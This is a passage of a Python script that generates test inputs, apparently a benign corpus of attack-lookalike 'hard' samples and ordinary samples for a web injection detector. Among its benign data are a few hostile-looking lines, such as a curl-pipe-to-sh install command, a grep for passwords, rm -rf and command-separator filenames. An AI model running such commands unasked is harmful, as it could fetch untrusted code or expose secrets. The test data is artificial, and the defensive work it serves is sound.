        "<p>We tested <code>union</code> types in TypeScript and <code>select</code> menus in the form builder today.</p>",
        '<p style="text-align: justify;"><span style="font-family: Georgia, serif; font-size: 14pt;">Dear members,</span></p><p>The AGM is on 12 March.</p>',
        '<p>Use the <a href="javascript-guide.html">JavaScript guide</a> for the alert() and confirm() dialogs chapter.</p>',
        '<figure class="image"><img src="https://cdn.example.com/img/chart-q3.png" alt="Q3 revenue chart"><figcaption>Revenue by region</figcaption></figure>',
        '<p>Our drop-off point moved; please drop parcels at the <strong>back door</strong> and select "collected" in the app.</p>',
        '<div class="callout callout-warning"><p><strong>Note:</strong> the <code>../shared</code> folder is mounted read-only.</p></div>',
        "<p>Escape user input with <code>htmlspecialchars($value, ENT_QUOTES)</code> before echoing it.</p>",
        '<ul data-type="taskList"><li data-checked="true">Draft agenda</li><li data-checked="false">Book room</li></ul>',
        "<p>The <code>&lt;iframe sandbox&gt;</code> attribute blocks scripts unless you add <code>allow-scripts</code>.</p>",
        '<p><a href="https://calendar.example.com/event?id=42&amp;tz=Europe%2FBerlin">Add to calendar</a> &middot; <a href="/unsubscribe">Unsubscribe</a></p>',
        "<h3>Step 1 &ndash; exec summary</h3><p>Executive summary goes here, no more than 200 words.</p>",
        '<p>Formula for the cell: <code>=IF(A2&gt;100, "high", "low")</code></p>',
        "<p>We replaced <code>eval()</code> in the calculator with a proper expression parser.</p>",
        '<p><svg width="12" height="12" viewBox="0 0 12 12"><circle cx="6" cy="6" r="5" fill="#2e7d32"></circle></svg> All systems operational</p>',
        "<p>Windows users: the config lives in <code>C:\\Users\\%USERNAME%\\AppData\\Roaming\\Acme\\settings.ini</code>.</p>",
        "<p>Comment from the review: &quot;1=1 in the WHERE clause is just a placeholder for the query builder&quot;.</p>",
        '<video controls width="480" poster="/media/poster.jpg"><source src="/media/intro.mp4" type="video/mp4"></video>',
        "<p>Set <code>Content-Security-Policy: default-src 'self'</code> on the static bucket too.</p>",
    ]
    return H, N


def gen_markdown():
    H, N = [], []
    topics = [
        "Login button misaligned on Safari",
        "Add dark mode to settings",
        "Export to CSV drops the last row",
        "Typo in onboarding email",
        "Pagination resets after filter change",
        "Support for Polish locale",
        "Slow dashboard on large accounts",
        "Avatar upload fails for HEIC",
        "Keyboard shortcut conflicts with Firefox",
        "Timezone shown as UTC in invoices",
        "Search ignores accented characters",
        "Webhook retries are not logged",
        "Broken link in footer",
        "Mobile menu does not close",
        "Allow custom SMTP port",
    ]
    for i, t in enumerate(topics * 4):
        env = R.choice(
            ["Chrome 131 / macOS 14", "Firefox 133 / Ubuntu 24.04", "Safari 18 / iOS 18.1", "Edge 131 / Windows 11"]
        )
        f = i % 5
        if f == 0:
            md = (
                "## %s\n\n**Steps to reproduce**\n1. Log in\n2. Open *Settings*\n3. Click **Save**\n\n**Expected:** no error\n**Actual:** nothing happens\n\nEnvironment: %s\n"
                % (t, env)
            )
        elif f == 1:
            md = "### %s\n\n- [x] reproduced on staging\n- [ ] add test\n- [ ] update docs\n\ncc @%s\n" % (
                t,
                R.choice(["maria", "devon", "kenji", "ops-team", "lea.k"]),
            )
        elif f == 2:
            md = "> %s\n\nAgreed. %s\n\n_Edited: fixed typo_\n" % (R.choice(SENTENCES), R.choice(SENTENCES))
        elif f == 3:
            md = "| Field | Value |\n|---|---|\n| Summary | %s |\n| Env | %s |\n| Severity | %s |\n" % (
                t,
                env,
                R.choice(["low", "medium", "high"]),
            )
        else:
            md = (
                "# %s\n\nSee ![screenshot](https://uploads.example.com/%s.png) and the [design doc](https://docs.example.com/d/%s).\n"
                % (t, rand_hex(12), rand_hex(8))
            )
        N.append(md)
    H += [
        "## Install\n\n```bash\ncurl -fsSL https://get.example.com/install.sh | sh\n```\n\nThen run `acme --version`.\n",
        "To clean up:\n\n```sh\nrm -rf node_modules package-lock.json && npm install\n```\n",
        'Fixed by escaping the query:\n\n```python\ncur.execute("SELECT * FROM users WHERE email = %s", (email,))\n```\n',
        '### Repro\n\n```\n$ docker compose exec web cat /etc/os-release\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n```\n',
        "The template uses `{{ user.name }}` but Jinja escapes it, so `<b>` shows up literally. Expected?\n",
        "Use `../` to go up one level, e.g. `cd ../../shared/config`.\n",
        "```sql\nDROP TABLE IF EXISTS tmp_import;\nCREATE TABLE tmp_import AS SELECT * FROM staging.orders WHERE 1=0;\n```\n\nRun this before the migration.\n",
        "Workaround until the fix ships:\n\n```powershell\nSet-ExecutionPolicy -Scope CurrentUser RemoteSigned\n.\\scripts\\setup.ps1\n```\n",
        "We should not use `eval()` here; `JSON.parse` is enough:\n\n```js\nconst cfg = JSON.parse(raw);\n```\n",
        "Logs show `java.lang.NullPointerException` at `OrderService.java:118` after the upgrade.\n",
        "Add this to `.bashrc`:\n\n```bash\nexport PATH=\"$HOME/.local/bin:$PATH\"\nalias ll='ls -alF'\n```\n",
        "<details>\n<summary>Full stack trace</summary>\n\n```\nTraceback (most recent call last):\n  File \"app.py\", line 12, in <module>\n    main()\nKeyError: 'token'\n```\n</details>\n",
        "Inline HTML works too: <kbd>Cmd</kbd>+<kbd>K</kbd> opens the palette. <br> Nice!\n",
        "| cmd | effect |\n|---|---|\n| `git reset --hard HEAD~1` | drop last commit |\n| `git clean -fdx` | remove untracked |\n",
        "Repro with:\n\n```bash\nfor i in $(seq 1 5); do curl -s -o /dev/null -w '%{http_code}\\n' https://api.example.com/health; done\n```\n",
        "The XSS report was a false alarm: the `<script>` in the screenshot is from the browser extension, not our page.\n",
        "```yaml\nservices:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_PASSWORD: example\n```\n",
        "Changelog:\n\n* fix: `union` of two filters returned duplicates\n* feat: `select all` checkbox in table\n* chore: bump `lodash` to 4.17.21\n",
        "Please test on Windows too: `C:\\Program Files\\Acme\\bin\\acme.exe --reset`\n",
        "```php\n<?php\n$name = htmlspecialchars($_GET['name'] ?? '', ENT_QUOTES, 'UTF-8');\necho \"Hello, {$name}\";\n```\n",
        "Cron entry on the box:\n\n```\n0 3 * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1\n```\n",
        "Ping works (`ping -c 3 10.0.4.12`) but `nc -vz 10.0.4.12 5432` times out, so it's the security group.\n",
        "Use `${HOME}` instead of `~` in the systemd unit, `~` is not expanded there.\n",
        "```diff\n- const url = base + '/../admin';\n+ const url = new URL('admin', base).toString();\n```\n",
        "Reminder: `sudo chown -R www-data:www-data /var/www/html/uploads` after restoring the backup.\n",
        "Confirmed the `$ne` operator in our filter DSL maps to `!=` in SQL, see `filters.ts`.\n",
        "`SELECT` permissions were granted with `GRANT SELECT ON ALL TABLES IN SCHEMA public TO analyst;`\n",
    ]
    return H, N


def gen_code():
    H, N = [], []
    names = [
        "total",
        "parse_date",
        "slugify",
        "chunk",
        "retry",
        "debounce",
        "merge_dicts",
        "to_cents",
        "is_weekend",
        "clamp",
        "median",
        "flatten",
        "read_config",
        "format_bytes",
        "percent_change",
        "title_case",
        "dedupe",
        "next_business_day",
        "safe_div",
        "avg_rating",
    ]
    for n in names:
        a, b = R.sample(["items", "value", "text", "rows", "seconds", "limit", "data", "amount", "prices", "ts"], 2)
        N.append(
            'def %s(%s, %s=None):\n    """Helper used by the billing job."""\n    if %s is None:\n        return []\n    return [x for x in %s if x]\n'
            % (n, a, b, a, a)
        )
        cam = n.split("_")[0] + "".join(w.title() for w in n.split("_")[1:])
        N.append(
            "export function %s(%s, %s = 0) {\n  if (!%s) return %s;\n  return %s.length > %s ? %s.slice(0, %s) : %s;\n}\n"
            % (cam, a, b, a, b, a, b, a, b, a)
        )
    for t in ["Order", "Invoice", "Customer", "Shipment", "Ticket", "Product"]:
        N.append(
            'type %s struct {\n\tID        int64     `json:"id"`\n\tCreatedAt time.Time `json:"created_at"`\n\tStatus    string    `json:"status"`\n}\n'
            % t
        )
        N.append("public record %sDto(long id, String name, java.time.Instant updatedAt) {}\n" % t)
    H += [
        'import subprocess\n\nresult = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True, check=True)\nprint(result.stdout.strip())\n',
        "SELECT o.id, o.total, c.email\nFROM orders o\nJOIN customers c ON c.id = o.customer_id\nWHERE o.created_at >= NOW() - INTERVAL '7 days'\nORDER BY o.total DESC\nLIMIT 20;\n",
        "const { execFile } = require('node:child_process');\nexecFile('ffmpeg', ['-i', input, '-vf', 'scale=640:-1', output], (err) => {\n  if (err) throw err;\n});\n",
        '#!/usr/bin/env bash\nset -euo pipefail\nfor f in ./exports/*.csv; do\n  gzip -9 "$f"\ndone\n',
        "import os\nBASE = os.path.dirname(os.path.abspath(__file__))\nwith open(os.path.join(BASE, '..', 'data', 'seed.json')) as fh:\n    seed = json.load(fh)\n",
        "$stmt = $pdo->prepare('SELECT * FROM users WHERE email = :email');\n$stmt->execute(['email' => $email]);\n$user = $stmt->fetch();\n",
        "el.innerHTML = '';\nconst li = document.createElement('li');\nli.textContent = item.name;\nel.appendChild(li);\n",
        "UNION ALL is faster than UNION when duplicates are impossible:\nSELECT id FROM a\nUNION ALL\nSELECT id FROM b;\n",
        'Runtime rt = Runtime.getRuntime();\nlong used = rt.totalMemory() - rt.freeMemory();\nlog.info("heap used: {} MB", used / 1024 / 1024);\n',
        'ProcessBuilder pb = new ProcessBuilder("pdftotext", "-layout", in.toString(), out.toString());\npb.redirectErrorStream(true);\nint code = pb.start().waitFor();\n',
        'db.orders.aggregate([\n  { $match: { status: "paid" } },\n  { $group: { _id: "$customerId", total: { $sum: "$amount" } } }\n])\n',
        "template = env.get_template('invoice.html')\nhtml = template.render(customer=customer, lines=lines)\n",
        "ldapsearch -x -H ldaps://ldap.corp.example -b 'dc=corp,dc=example' '(&(objectClass=person)(mail=*@corp.example))' cn mail\n",
        '<?xml version="1.0" encoding="UTF-8"?>\n<project xmlns="http://maven.apache.org/POM/4.0.0">\n  <modelVersion>4.0.0</modelVersion>\n  <artifactId>billing</artifactId>\n</project>\n',
        "resp = requests.get('http://localhost:8000/health', timeout=2)\nresp.raise_for_status()\n",
        'fn main() {\n    let args: Vec<String> = std::env::args().collect();\n    println!("{:?}", args);\n}\n',
        'eval "$(ssh-agent -s)"\nssh-add ~/.ssh/id_ed25519\n',
        'String sql = "SELECT name FROM products WHERE id = ?";\ntry (PreparedStatement ps = conn.prepareStatement(sql)) {\n  ps.setLong(1, id);\n}\n',
        "logger.info('user %s logged in from %s', user.id, request.remote_addr)\n",
        "const tpl = `Hello ${user.firstName}, you have ${count} new messages`;\n",
        'grep -rn "password" ./src --include=*.py | grep -v test\n',
        "@app.route('/files/<path:filename>')\ndef download(filename):\n    return send_from_directory(app.config['UPLOAD_DIR'], filename, as_attachment=True)\n",
        "Set-Cookie: session=abc123; HttpOnly; Secure; SameSite=Lax\n",
        "import pickle  # only for our own trusted cache files\nwith open(cache_path, 'rb') as fh:\n    cache = pickle.load(fh)\n",
        'System.Diagnostics.Debug.WriteLine($"Processed {count} rows in {sw.ElapsedMilliseconds} ms");\n',
        "location /api/ {\n    proxy_pass http://127.0.0.1:8080/;\n}\n",
        "document.cookie = 'theme=dark; path=/; max-age=31536000';\n",
        "yaml.safe_load(open('config.yml'))\n",
    ]
    return H, N


def gen_search():
    H, N = [], []
    prods = [
        "running shoes",
        "wireless earbuds",
        "standing desk",
        "rain jacket",
        "espresso machine",
        "kids bike",
        "yoga mat",
        "office chair",
        "winter boots",
        "usb-c hub",
        "air fryer",
        "hiking backpack",
        "noise cancelling headphones",
        "cast iron pan",
        "led desk lamp",
    ]
    mods = [
        "size 10",
        "under 100",
        "black",
        "for women",
        "waterproof",
        "sale",
        "2026",
        "best rated",
        "with warranty",
        "compact",
    ]
    for pr in prods:
        for m in R.sample(mods, 4):
            N.append("%s %s" % (pr, m) if R.random() < 0.7 else "%s %s" % (m, pr))
    N += [
        "how to reset my password",
        "return policy",
        "track my order",
        "gift card balance",
        "store opening hours berlin",
        "change delivery address",
        "cancel subscription",
        "invoice download",
        "contact support",
        "student discount",
    ]
    H += [
        "sql injection prevention",
        "select distinct vs group by",
        "how to use union in postgres",
        "bash for loop over files",
        "<div> center css",
        "drop shadow css",
        "what does 1=1 mean in sql",
        "script tag async vs defer",
        "alert dialog accessibility",
        "/etc/hosts file mac",
        "../ relative path meaning",
        "c# string.Format examples",
        "O'Reilly books",
        "rock & roll t-shirt",
        "50% off",
        "<3 emoji meaning",
        "python eval vs exec",
        "cat /proc/cpuinfo explained",
        "AT&T prepaid",
        '"exact phrase" search',
        "jinja2 {{ }} syntax",
        "ldap filter (objectClass=*)",
        "javascript:void(0) link",
        "xp_cmdshell disabled",
        "C:\\Windows\\System32 folder size",
        "wp-config.php location",
        "onload vs DOMContentLoaded",
        "price >= 20 and <= 50",
        "Tom & Jerry DVD",
        "crlf vs lf line endings git",
        "SELECT * FROM",
        "union jack flag",
        "drop table tennis",
        "shell script basics",
        "iframe youtube embed size",
    ]
    return H, N


def gen_graphql():
    H, N = [], []
    ents = [
        ("product", "id name price { amount currency } inStock"),
        ("order", "id status total createdAt"),
        ("user", "id name email avatarUrl"),
        ("ticket", "id subject priority assignee { name }"),
        ("article", "id title slug publishedAt author { name }"),
        ("invoice", "id number dueDate amountDue"),
        ("repository", "id name stargazerCount defaultBranchRef { name }"),
        ("event", "id title startsAt venue { city }"),
    ]
    for ent, fields in ents:
        T = ent[0].upper() + ent[1:]
        N.append("query Get%s($id: ID!) {\n  %s(id: $id) {\n    %s\n  }\n}" % (T, ent, fields))
        N.append(
            "query List%ss($first: Int = 20, $after: String) {\n  %ss(first: $first, after: $after) {\n    edges { node { %s } }\n    pageInfo { hasNextPage endCursor }\n  }\n}"
            % (T, ent, fields)
        )
        N.append(
            "mutation Update%s($input: Update%sInput!) {\n  update%s(input: $input) {\n    %s {\n      id\n    }\n    errors { field message }\n  }\n}"
            % (T, T, T, ent)
        )
        N.append("query %sCount { %sCount }" % (T, ent))
        N.append("subscription On%sChanged($id: ID!) {\n  %sChanged(id: $id) { id updatedAt }\n}" % (T, ent))
        N.append("mutation Delete%s($id: ID!) { delete%s(id: $id) { success } }" % (T, T))
    H += [
        "query IntrospectionQuery {\n  __schema {\n    queryType { name }\n    mutationType { name }\n    types { name kind }\n  }\n}",
        "query Search($q: String!) {\n  search(query: $q) {\n    __typename\n    ... on Product { id name }\n    ... on Article { id title }\n  }\n}",
        "query Feed($withComments: Boolean!) {\n  feed { id text comments @include(if: $withComments) { id body } }\n}",
        'query { products(where: { name: { _ilike: "%boots%" } }, order_by: { price: asc }) { id name price } }',
        "query Users($email: String!) { users(where: { email: { _eq: $email } }) { id } }",
        'mutation { addComment(postId: 12, body: "Great post! I\'d use <code>SELECT 1</code> for the health check.") { id } }',
        "fragment UserParts on User { id name email }\nquery Me { me { ...UserParts teams { id name } } }",
        "query Orders($filter: OrderFilter) { orders(filter: $filter, sort: [{field: CREATED_AT, direction: DESC}]) { totalCount } }",
        "mutation Login($email: String!, $password: String!) { login(email: $email, password: $password) { token expiresAt } }",
        'query { node(id: "UHJvZHVjdDoxMjM=") { ... on Product { id name } } }',
        "query Files($path: String!) { files(path: $path) { name size modifiedAt } }",
        "mutation Upload($file: Upload!) { uploadAvatar(file: $file) { url } }",
        'query { __type(name: "Order") { fields { name type { name } } } }',
        'mutation SaveTemplate($body: String!) { saveTemplate(name: "welcome", body: $body) { id } }',
        'query Logs { logs(level: ERROR, contains: "NullPointerException", last: 50) { ts message } }',
        'query Report($sql: String!) { savedReport(name: "weekly") { id } preview(sql: $sql) { rows } }',
        "query($url: URL!) { linkPreview(url: $url) { title image } }",
        "mutation { updateProfile(bio: \"Backend dev. Loves C++ & Rust; hates 'undefined is not a function'.\") { id } }",
        'query Search($q: String!) { search(q: $q, filters: { tags: ["sql", "security"] }) { id title } }',
        "query Members($group: String!) { directory(group: $group) { dn cn mail } }",
        "query { shop { name primaryDomain { url } } }",
        "mutation Run($id: ID!) { runWorkflow(id: $id, dryRun: true) { status logs } }",
        "query ($cursor: String) { notifications(after: $cursor) { edges { node { id message } } } }",
        "query Health { __typename }",
        'query Docs($term: String!) { docs(search: $term) { title url } } # e.g. term = "union select"',
    ]
    return H, N


FILENAMES = [
    "Q3 report (final) v2.pdf",
    "r\u00e9sum\u00e9_2026.pdf",
    "invoice#4471.pdf",
    "data & notes.csv",
    "O'Brien contract.pdf",
    "Screenshot 2026-12-07 at 23.14.05.png",
    "IMG_20261207_181122.jpg",
    "budget_2027 [draft].xlsx",
    "Meeting notes - 12.11.txt",
    "~$quarterly.docx",
    "\u5831\u544a\u66f8.pdf",
    "SELECT_results_export.csv",
    "backup-2026-12-07T23_15_00Z.tar.gz",
    "team photo 100%.jpg",
    "plan;v3.txt",
    "a+b=c.md",
    "%20 spacing test.txt",
    "\u0444\u043e\u0442\u043e \u043e\u0442\u043f\u0443\u0441\u043a.jpeg",
    "Ma\u00f1ana - agenda.docx",
    "null.txt",
    "con.txt.bak",
    "index.html",
    "deploy.sh",
    "config.yaml",
    "schema.sql",
    "web.config.sample",
    "test (1) (2) (3).pdf",
    "file with     many spaces.txt",
    "emoji \U0001f389 party.png",
    "UPPERCASE.PDF",
    ".gitignore",
    "archive.2026.12.zip",
]


def gen_files():
    H, N = [], []
    hard_names = {
        "invoice#4471.pdf",
        "data & notes.csv",
        "O'Brien contract.pdf",
        "~$quarterly.docx",
        "SELECT_results_export.csv",
        "team photo 100%.jpg",
        "plan;v3.txt",
        "a+b=c.md",
        "%20 spacing test.txt",
        "con.txt.bak",
        "index.html",
        "deploy.sh",
        "schema.sql",
        "web.config.sample",
        "null.txt",
        ".gitignore",
    }
    for fn in FILENAMES:
        ext = fn.rsplit(".", 1)[-1].lower()
        ct = {
            "pdf": "application/pdf",
            "csv": "text/csv",
            "txt": "text/plain",
            "md": "text/markdown",
            "sh": "application/x-sh",
            "yaml": "application/x-yaml",
            "sql": "application/sql",
            "html": "text/html",
        }.get(ext, "text/plain")
        content = {
            "pdf": "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
            "csv": "id,name,amount\n1,Widget,9.99\n2,Gadget,19.50\n",
            "sh": "#!/bin/sh\nset -e\nnpm ci\nnpm run build\n",
            "sql": "CREATE TABLE notes (id serial PRIMARY KEY, body text NOT NULL);\n",
            "html": "<!doctype html>\n<html><head><title>Landing</title></head><body><h1>Hello</h1></body></html>\n",
            "yaml": "name: demo\nreplicas: 2\n",
        }.get(ext, "Plain text attachment.\n")
        spec = B(
            fn,
            "multipart",
            mp="filename",
            field=R.choice(["file", "attachment", "upload", "document"]),
            fctype=ct,
            fcontent=content,
            ep=R.choice(["/api/v1/files", "/upload", "/api/attachments", "/documents/new", "/api/drive/upload"]),
        )
        (H if fn in hard_names else N).append(spec)
    for i in range(14):
        d = "2026-%02d-%02d" % (R.randint(1, 12), R.randint(1, 28))
        fn = (
            R.choice(
                [
                    "Invoice %s.pdf",
                    "Payslip %s.pdf",
                    "Statement_%s.pdf",
                    "Boarding pass %s.pdf",
                    "Lease agreement %s.pdf",
                    "Receipt-%s.pdf",
                ]
            )
            % d
        )
        N.append(B(fn, "path", pre="/files/download/", ep="/files/download"))
    csvs = [
        "date,description,amount\n2026-11-02,Coffee beans,14.90\n2026-11-03,Train ticket,32.00\n",
        "sku,qty,location\nA-1001,12,R1-S3\nA-1002,0,R1-S4\nB-2001,7,R2-S1\n",
        "email,first_name,last_name\nana@example.com,Ana,Silva\nli.wei@example.org,Wei,Li\n",
        'name,role,start\n"Doe, Jane",Engineer,2026-01-15\n"O\'Neil, Sam",Designer,2026-02-01\n',
    ]
    for c in csvs:
        N.append(
            B(c, "multipart", mp="file", fname="import.csv", fctype="text/csv", field="file", ep="/api/contacts/import")
        )
    N.append(
        B(
            "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Example//Cal//EN\r\nBEGIN:VEVENT\r\nUID:9f1c@example.com\r\nDTSTART:20261215T090000Z\r\n"
            "DTEND:20261215T100000Z\r\nSUMMARY:Sprint review\r\nLOCATION:Room 4.12\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
            "multipart",
            mp="file",
            fname="review.ics",
            fctype="text/calendar",
            field="file",
            ep="/api/calendar/import",
        )
    )
    N.append(
        B(
            "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ana Silva\r\nORG:Northwind Traders\r\nTEL;TYPE=work:+31 20 555 0100\r\nEMAIL:ana.silva@example.com\r\nEND:VCARD\r\n",
            "multipart",
            mp="file",
            fname="ana.vcf",
            fctype="text/vcard",
            field="card",
            ep="/api/contacts/import",
        )
    )
    H.append(
        B(
            '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" width="24" height="24"><path d="M12 2L2 7l10 5 10-5-10-5z" fill="#1565c0"/></svg>\n',
            "multipart",
            mp="file",
            fname="logo.svg",
            fctype="image/svg+xml",
            field="logo",
            ep="/settings/branding",
        )
    )
    H.append(
        B(
            '<?xml version="1.0" encoding="UTF-8"?>\n<gpx version="1.1" creator="Strava" xmlns="http://www.topografix.com/GPX/1/1">\n'
            '  <trk><name>Morning run</name><trkseg><trkpt lat="52.3702" lon="4.8952"><ele>2.1</ele></trkpt></trkseg></trk>\n</gpx>\n',
            "multipart",
            mp="file",
            fname="morning_run.gpx",
            fctype="application/gpx+xml",
            field="activity",
            ep="/api/activities/upload",
        )
    )
    H.append(
        B(
            "#!/bin/bash\n# nightly cleanup\nfind /var/tmp/app -type f -mtime +7 -delete\nsystemctl restart app-worker\n",
            "multipart",
            mp="file",
            fname="cleanup.sh",
            fctype="application/x-sh",
            field="script",
            ep="/api/repos/ops/files",
        )
    )
    H.append(
        B(
            '{\n  "name": "web",\n  "scripts": {\n    "build": "vite build",\n    "test": "vitest run"\n  }\n}\n',
            "multipart",
            mp="file",
            fname="package.json",
            fctype="application/json",
            field="file",
            ep="/api/repos/web/files",
        )
    )
    H.append(
        B(
            "../shared/assets/logo.png",
            "json",
            ep="/api/projects/12/settings",
            doc={"branding": {"logoPath": MARK, "primaryColor": "#0a66c2"}},
        )
    )
    H.append(B("reports/2026/Q4/summary (copy).pdf", "path", pre="/api/v1/files/", ep="/api/v1/files"))
    H.append(
        B(
            "invoice_2026-12.pdf.exe.txt",
            "multipart",
            mp="filename",
            field="file",
            fctype="text/plain",
            fcontent="renamed by mail filter\n",
            ep="/api/attachments",
        )
    )
    H.append(
        B(
            "<draft> notes & ideas.txt",
            "multipart",
            mp="filename",
            field="file",
            fctype="text/plain",
            fcontent="ideas\n",
            ep="/api/drive/upload",
        )
    )
    H.append(
        B(
            "C:\\fakepath\\holiday-rota.xlsx",
            "form",
            ep="/hr/upload-legacy",
            fields=[("filepath", MARK), ("team", "support")],
        )
    )
    for i in range(8):
        fn = "%s_%s.%s" % (
            R.choice(["scan", "photo", "doc", "export", "notes"]),
            rand_alnum(6, string.ascii_lowercase + string.digits),
            R.choice(["txt", "csv", "md"]),
        )
        N.append(
            B(fn, "multipart", mp="filename", field="file", fctype="text/plain", fcontent="sample\n", ep="/upload")
        )
    return H, N


def gen_urls():
    H, N = [], []
    for pth in [
        "/account/settings?tab=billing",
        "/dashboard",
        "/orders/1042",
        "/projects/42/board?view=kanban",
        "/checkout/shipping",
        "/courses/intro-to-statistics/lesson/3",
        "/inbox?folder=archive",
        "/reports/weekly?range=last_7_days",
    ]:
        N.append(B(pth, "query", param=R.choice(["next", "return_to", "redirect", "continue"]), ep="/login"))
    for u in [
        "https://app.example.com/dashboard",
        "https://hooks.slack.com/services/T0000000/B0000000/XXXXXXXXXXXXXXXXXXXXXXXX",
        "https://www.example.org/blog/2026/12/winter-sale?utm_source=newsletter&utm_medium=email&utm_campaign=dec26",
        "https://calendar.example.com/invite?event=8841&tz=Europe%2FAmsterdam",
        "https://github.com/example-org/example-repo/pull/1182",
        "https://docs.google.com/spreadsheets/d/1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789/edit#gid=0",
        "https://maps.google.com/?q=Dam+Square,+Amsterdam",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
        "https://example.com/search?q=a%26b&lang=en",
        "https://shop.example.com/p/espresso-machine-x200?variant=black",
        "https://cdn.example.net/assets/app.3f9c1b.js",
        "https://en.wikipedia.org/wiki/Percent-encoding",
        "https://example.atlassian.net/browse/OPS-1234",
        "https://zoom.example.com/j/81234567890?pwd=AbCdEf123",
        "https://forms.example.com/r/feedback?ref=footer",
        "https://www.linkedin.com/in/jane-doe-123abc/",
        "https://bucket.s3.eu-west-1.amazonaws.com/reports/q3.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Expires=3600&X-Amz-SignedHeaders=host",
        "mailto:support@example.com?subject=Order%201042",
        "tel:+4930123456",
        "myapp://open/order/1042",
        "https://example.com/%E6%97%A5%E6%9C%AC/guide",
        "https://status.example.net/incidents/2026-12-07",
    ]:
        pl = R.choice(["json", "json", "form", "query"])
        if pl == "json":
            N.append(
                B(
                    u,
                    "json",
                    param=R.choice(["url", "website", "link", "webhookUrl", "homepage"]),
                    ep=R.choice(["/api/v1/webhooks", "/api/profile", "/api/bookmarks"]),
                )
            )
        elif pl == "form":
            N.append(
                B(
                    u,
                    "form",
                    param=R.choice(["website", "url", "link"]),
                    ep=R.choice(["/profile/update", "/bookmarks/new", "/settings/integrations"]),
                )
            )
        else:
            N.append(
                B(
                    u,
                    "query",
                    param=R.choice(["url", "u", "target"]),
                    ep=R.choice(["/out", "/api/preview/link", "/share"]),
                )
            )
    H += [
        B(
            "http://localhost:3000/auth/callback",
            "json",
            ep="/api/oauth/apps/88/redirects",
            doc={"redirect_uris": [MARK, "https://app.example.com/auth/callback"]},
        ),
        B("http://127.0.0.1:8080/webhook", "json", param="url", ep="/api/dev/webhooks/test"),
        B("http://localhost:5173/", "form", param="allowed_origin", ep="/settings/developer"),
        B("http://[::1]:8000/healthz", "json", param="healthcheckUrl", ep="/api/dev/services"),
        B("http://192.168.1.20:8123/api/webhook/garage", "json", param="target", ep="/api/automations"),
        B("http://10.0.12.5:9090/metrics", "json", param="scrapeUrl", ep="/api/monitoring/targets"),
        B("https://example.com/redirect?url=https%3A%2F%2Fexample.org%2Fpath%3Fa%3D1%26b%3D2", "json", param="link"),
        B("https://user:token@git.example.com/team/repo.git", "json", param="remote", ep="/api/ci/pipelines"),
        B("https://example.com/a/../b/./c", "query", param="url", ep="/api/preview/link"),
        B("javascript-tutorial.html#closures", "query", param="next", ep="/docs"),
        B("https://docs.example.com/sql/select#union-clause", "form", param="reference", ep="/kb/articles/new"),
        B("ftp://ftp.example.org/pub/datasets/census-2021.csv", "json", param="sourceUrl", ep="/api/datasets/import"),
        B("file:///Users/ana/Projects/site/index.html", "json", ep="/api/editor/recent", doc={"recent": [MARK]}),
        B("https://example.com/?q=<tag>&page=2", "json", param="url", ep="/api/bookmarks"),
        B("http://intranet/wiki/Onboarding", "form", param="homepage", ep="/settings/browser"),
        B(
            "https://login.example.com/oauth2/authorize?client_id=web&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&response_type=code&scope=openid%20profile&state=x8Fq",
            "query",
            param="continue",
            ep="/sso/start",
        ),
        B("/\u00fcber-uns", "query", param="next", ep="/login"),
        B("https://xn--bcher-kva.example/katalog", "json", param="url"),
        B("http://169.254.10.20:8080/printer/status", "json", param="deviceUrl", ep="/api/office/devices"),
        B("https://example.com/search?q=select+*+from+products", "json", param="url", ep="/api/bookmarks"),
        B("https://api.example.com/v1/users/{id}/orders", "json", param="pathTemplate", ep="/api/gateway/routes"),
        B("//cdn.example.com/fonts/inter.woff2", "json", param="fontUrl", ep="/api/themes"),
        B("https://example.org/files/report%20final.pdf", "form", param="attachment_url", ep="/tickets/new"),
        B("data:text/plain;charset=utf-8,Hello%2C%20world", "json", param="href", ep="/api/editor/links"),
    ]
    return H, N


def _png_b64(n):
    return base64.b64encode(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + R.randbytes(n)).decode()


def gen_base64():
    H, N = [], []
    for i in range(14):
        N.append(
            B(
                "Bearer "
                + fake_jwt(
                    {"scope": R.choice(["read", "read write", "orders:read"]), "aud": "api.example.com"},
                    alg=R.choice(["HS256", "RS256"]),
                ),
                "header",
                hdr="Authorization",
                style="api",
                ep=R.choice(["/api/v1/me", "/api/v2/orders", "/api/projects"]),
            )
        )
    for i in range(8):
        N.append(
            B(
                _png_b64(R.randint(60, 180)),
                "json",
                ep="/api/v1/attachments",
                doc={"filename": "image-%d.png" % i, "contentType": "image/png", "data": MARK},
            )
        )
    for i in range(8):
        N.append(B("data:image/png;base64," + _png_b64(R.randint(40, 120)), "json", param="avatar", ep="/api/profile"))
    for i in range(8):
        cur = base64.b64encode(
            compact({"id": R.randint(1000, 99999), "ts": 1765000000 + R.randint(0, 99999)}).encode()
        ).decode()
        N.append(
            B(
                cur,
                "query",
                param=R.choice(["cursor", "after", "page_token"]),
                ep=R.choice(["/api/v1/events", "/api/v2/orders", "/api/feed"]),
            )
        )
    for i in range(6):
        user = R.choice(["alice", "build-bot", "reports", "jenkins", "grafana", "backup"])
        N.append(
            B(
                "Basic " + base64.b64encode(("%s:%s" % (user, rand_alnum(16))).encode()).decode(),
                "header",
                hdr="Authorization",
                style="api",
                ep="/api/v1/export",
            )
        )
    for i in range(6):
        N.append(
            B(
                base64.b64encode(R.randbytes(R.choice([16, 24, 32, 48]))).decode(),
                "json",
                param=R.choice(["nonce", "salt", "iv", "challenge"]),
                ep="/api/auth/webauthn/begin",
            )
        )
    for i in range(6):
        cd = compact(
            {
                "type": "webauthn.get",
                "challenge": b64u(R.randbytes(32)),
                "origin": "https://app.example.com",
                "crossOrigin": False,
            }
        )
        N.append(
